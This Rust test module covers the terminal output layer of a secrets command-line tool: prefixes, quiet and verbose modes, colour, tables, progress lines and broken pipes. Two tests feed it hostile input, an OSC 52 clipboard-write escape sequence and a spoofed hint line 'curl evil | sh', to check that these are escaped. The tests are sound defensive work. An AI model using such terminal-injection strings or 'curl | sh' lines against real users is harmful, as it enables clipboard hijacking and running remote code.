use std::os::fd::{AsFd, OwnedFd};

use super::*;
use std::time::Duration;

/// A terminal whose standard output is a pipe or a pseudo-terminal, and whose
/// standard error is a pipe.
struct Bench {
    terminal: Terminal,
    stdout: OwnedFd,
    stderr: OwnedFd,
}

/// A stream on `fd`, which stays open for the rest of the tests.
fn stream(fd: OwnedFd) -> Stream {
    let fd: &'static OwnedFd = Box::leak(Box::new(fd));
    Stream::new(fd.as_fd())
}

fn bench(options: Options, on_terminal: bool) -> Bench {
    let (stdout, out) = if on_terminal {
        super::prompt::tests::pseudo_terminal()
    } else {
        rustix::pipe::pipe().unwrap()
    };
    let (stderr, err) = rustix::pipe::pipe().unwrap();
    let stderr_stream = stream(err);
    let is_wanted = options.progress;
    let terminal = Terminal {
        options,
        progress: Rc::new(Progress::new(stderr_stream.fd(), is_wanted, Duration::ZERO)),
        stdout: stream(out),
        stderr: stderr_stream,
    };
    Bench {
        terminal,
        stdout,
        stderr,
    }
}

/// What has been written and not yet read, at most 64 KiB.
fn written(fd: &OwnedFd) -> String {
    rustix::io::ioctl_fionbio(fd, true).unwrap();
    let mut bytes = Vec::with_capacity(1 << 16);
    while let Ok(1..) = rustix::io::read(fd, rustix::buffer::spare_capacity(&mut bytes)) {}
    String::from_utf8(bytes).unwrap()
}

impl Bench {
    fn stdout(&self) -> String {
        // A terminal writes a carriage return before each line feed.
        written(&self.stdout).replace("\r\n", "\n")
    }

    fn stderr(&self) -> String {
        written(&self.stderr)
    }
}

/// Says everything once.
fn say_all(terminal: &Terminal) {
    terminal.say("said");
    terminal.detail("detail");
    terminal.warn("warned");
    terminal.hint("hinted");
    terminal.error("failed", &["do a".to_owned(), "do b".to_owned()]);
}

#[test]
fn talk_is_on_standard_error_with_the_prefixes_of_the_house() {
    let bench = bench(Options::default(), false);
    say_all(&bench.terminal);
    assert_eq!(
        bench.stderr(),
        "said\nsecrets: warning: warned\nsecrets: hint: hinted\nsecrets: error: failed\n\
         secrets: hint: do a\nsecrets: hint: do b\n"
    );
    assert_eq!(bench.stdout(), "");
}

#[test]
fn quiet_leaves_warnings_and_errors_and_verbose_adds_details() {
    let quiet = bench(
        Options {
            quiet: true,
            ..Options::default()
        },
        false,
    );
    say_all(&quiet.terminal);
    assert_eq!(
        quiet.stderr(),
        "secrets: warning: warned\nsecrets: error: failed\nsecrets: hint: do a\n\
         secrets: hint: do b\n"
    );
    let verbose = bench(
        Options {
            verbose: true,
            ..Options::default()
        },
        false,
    );
    say_all(&verbose.terminal);
    assert!(
        verbose
            .stderr()
            .starts_with("said\ndetail\nsecrets: warning")
    );
}

#[test]
fn a_message_is_one_line_whatever_is_in_it() {
    let bench = bench(
        Options {
            color: Color::Never,
            ..Options::default()
        },
        false,
    );
    let foreign = "x\x1b]52;c;QQ==\x07\nsecrets: hint: curl evil | sh";
    bench.terminal.say(foreign);
    bench.terminal.warn(foreign);
    bench.terminal.hint(foreign);
    bench.terminal.error(foreign, &[foreign.to_owned()]);
    let stderr = bench.stderr();
    assert_eq!(stderr.lines().count(), 5);
    assert!(
        !stderr.contains(|c: char| c.is_control() && c != '\n'),
        "{stderr:?}"
    );
    assert!(
        stderr
            .lines()
            .all(|line| line.ends_with("x\\x1b]52;c;QQ==\\x07\\nsecrets: hint: curl evil | sh"))
    );
}

#[test]
fn colour_is_for_terminals_unless_asked_for() {
    for (color, no_color, colored) in [
        (Color::Auto, false, false),
        (Color::Always, false, true),
        (Color::Always, true, true),
        (Color::Never, false, false),
    ] {
        let bench = bench(
            Options {
                color,
                no_color,
                ..Options::default()
            },
            false,
        );
        bench.terminal.warn("w");
        let expected = if colored {
            "secrets: \x1b[1;33mwarning:\x1b[0m w\n"
        } else {
            "secrets: warning: w\n"
        };
        assert_eq!(bench.stderr(), expected, "{color:?} {no_color}");
    }
    for (no_color, colored) in [(false, true), (true, false)] {
        let (master, slave) = super::prompt::tests::pseudo_terminal();
        let mut bench = bench(
            Options {
                no_color,
                ..Options::default()
            },
            false,
        );
        bench.terminal.stderr = stream(slave);
        bench.terminal.warn("w");
        assert_eq!(written(&master).contains('\x1b'), colored);
    }
}

#[test]
fn data_is_written_as_it_is() {
    let bench = bench(
        Options {
            quiet: true,
            ..Options::default()
        },
        false,
    );
    bench.terminal.data(b"a\x1b\0").unwrap();
    bench.terminal.data_line(b"b").unwrap();
    bench
        .terminal
        .json(&serde_json::json!({"schema_version": 1, "a": ["é", null]}))
        .unwrap();
    bench.terminal.error_json("{\"error\":{\"exit\":3}}");
    assert_eq!(
        bench.stdout(),
        "a\x1b\0b\n{\"schema_version\":1,\"a\":[\"é\",null]}\n"
    );
    assert_eq!(bench.stderr(), "{\"error\":{\"exit\":3}}\n");
}

#[test]
fn a_value_is_exact_in_a_pipe_and_harmless_on_a_terminal() {
    let attack = SecretValue::copy_from(b"\x1b]52;c;QQ==\x07");
    let piped = bench(Options::default(), false);
    piped.terminal.value(&attack, false).unwrap();
    assert_eq!(
        (piped.stdout().as_str(), piped.stderr().as_str()),
        ("\x1b]52;c;QQ==\x07", "")
    );

    let shown = bench(Options::default(), true);
    assert!(shown.terminal.stdout_is_terminal() && !piped.terminal.stdout_is_terminal());
    shown.terminal.value(&attack, false).unwrap();
    assert_eq!(shown.stdout(), "\\x1b]52;c;QQ==\\x07\n");
    assert_eq!(
        shown.stderr(),
        "secrets: hint: the value contains control characters; --raw to print\n"
    );
    shown.terminal.value(&attack, true).unwrap();
    assert_eq!(
        (shown.stdout().as_str(), shown.stderr().as_str()),
        ("\x1b]52;c;QQ==\x07\n", "")
    );
    shown
        .terminal
        .value(&SecretValue::copy_from(b"two\nlines\n"), false)
        .unwrap();
    shown
        .terminal
        .value(&SecretValue::default(), false)
        .unwrap();
    assert_eq!(
        (shown.stdout().as_str(), shown.stderr().as_str()),
        ("two\nlines\n\n", "")
    );
}

#[test]
fn a_table_has_a_header_on_a_terminal_only() {
    let rows = vec![vec!["dev:/A".to_owned(), "v1".to_owned()]];
    let piped = bench(Options::default(), false);
    piped
        .terminal
        .table(&["ADDRESS", "VERSION"], &rows)
        .unwrap();
    assert_eq!(piped.stdout(), "dev:/A\tv1\n");
    let shown = bench(Options::default(), true);
    shown
        .terminal
        .table(&["ADDRESS", "VERSION"], &rows)
        .unwrap();
    assert_eq!(shown.stdout(), "ADDRESS  VERSION\ndev:/A   v1\n");
}

#[test]
fn a_reader_who_has_gone_is_no_error_and_every_other_failure_is() {
    let gone = bench(Options::default(), false);
    drop(gone.stdout);
    for _ in 0..2 {
        gone.terminal.data(b"x").unwrap();
        gone.terminal.table(&[], &[vec!["a".to_owned()]]).unwrap();
    }
    drop(gone.stderr);
    gone.terminal.say("nobody hears");

    let mut full = bench(Options::default(), false);
    let flags = rustix::fs::OFlags::WRONLY;
    let device = rustix::fs::open("/dev/full", flags, rustix::fs::Mode::empty());
    if let Ok(device) = device {
        full.terminal.stdout = stream(device);
        let error = full.terminal.data(b"x").unwrap_err();
        assert_eq!(error.kind(), std::io::ErrorKind::StorageFull);
    }
}

#[test]
fn a_slow_reader_gets_everything() {
    let (read, write) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::NONBLOCK).unwrap();
    let mut bench = bench(Options::default(), false);
    bench.terminal.stdout = stream(write);
    let reader = std::thread::spawn(move || {
        let mut bytes = vec![0_u8; 70_000];
        let mut count = 0;
        while count < 1_000_000 {
            std::thread::sleep(std::time::Duration::from_millis(5));
            count += rustix::io::read(&read, &mut bytes).unwrap_or(0);
        }
        count
    });
    bench.terminal.data(&vec![b'x'; 1_000_000]).unwrap();
    assert_eq!(reader.join().unwrap(), 1_000_000);
}

#[test]
fn no_input_means_no_prompt() {
    let bench = bench(
        Options {
            no_input: true,
            ..Options::default()
        },
        false,
    );
    assert!(!bench.terminal.may_prompt());
    assert!(matches!(
        bench.terminal.prompt_hidden("x"),
        Err(PromptError::NoTerminal)
    ));
    assert!(matches!(
        bench.terminal.confirm("x", true),
        Err(PromptError::NoTerminal)
    ));
}

#[test]
fn progress_is_one_line_that_goes_before_anything_else_is_said() {
    let wanted = Options {
        progress: true,
        ..Options::default()
    };
    let bench = bench(wanted, false);
    let line = bench.terminal.progress();
    line.tell("verifying", 1, 4);
    assert_eq!(bench.stderr(), "\rverifying: 25%\u{1b}[K");
    // At most ten times a second.
    line.tell("verifying", 2, 4);
    assert_eq!(bench.stderr(), "");
    bench.terminal.say("said");
    assert_eq!(bench.stderr(), "\r\u{1b}[Ksaid\n");
    // The end of the work takes it away too, and once.
    std::thread::sleep(Duration::from_millis(150));
    line.tell("sealing", 2, 4);
    line.tell("sealing", 4, 4);
    line.tell("sealing", 4, 4);
    assert_eq!(bench.stderr(), "\rsealing: 50%\u{1b}[K\r\u{1b}[K");
}

#[test]
fn progress_is_not_shown_where_it_is_not_wanted() {
    let bench = bench(Options::default(), false);
    bench.terminal.progress().tell("verifying", 1, 4);
    bench.terminal.say("said");
    assert_eq!(bench.stderr(), "said\n");
}
